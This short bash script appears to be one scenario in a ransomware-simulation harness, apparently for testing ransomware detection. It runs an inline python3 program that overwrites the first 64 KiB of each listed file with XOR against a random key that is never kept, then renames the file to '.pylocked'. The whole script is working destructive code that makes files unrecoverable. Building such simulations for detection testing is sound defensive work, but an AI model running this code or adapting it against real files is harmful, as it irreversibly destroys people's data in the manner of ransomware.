#!/usr/bin/env bash
# An interpreter script: python3 encrypts each file in place (XOR with a
# random key stream) and renames it to X.pylocked.
. "$(dirname "$0")/attack-lib.sh"
destructive
printf '%s\n' "${FILES[@]}" | python3 -c '
import os, sys, time
start = time.time()
attempted = failed = 0
for path in sys.stdin.read().split("\n"):
    if not path or time.time() - start > int(sys.argv[1]):
        continue
    attempted += 1
    try:
        with open(path, "r+b") as f:
            data = f.read()
            head = data[:65536]
            key = os.urandom(len(head))
            f.seek(0)
            f.write((int.from_bytes(head, "little") ^ int.from_bytes(key, "little")).to_bytes(len(head), "little"))
        os.rename(path, path + ".pylocked")
    except OSError:
        failed += 1
print(attempted, failed)
' "$MAX_SECONDS" >"$SCRATCH/python.out" 2>&1
read -r attempted failed <"$SCRATCH/python.out"
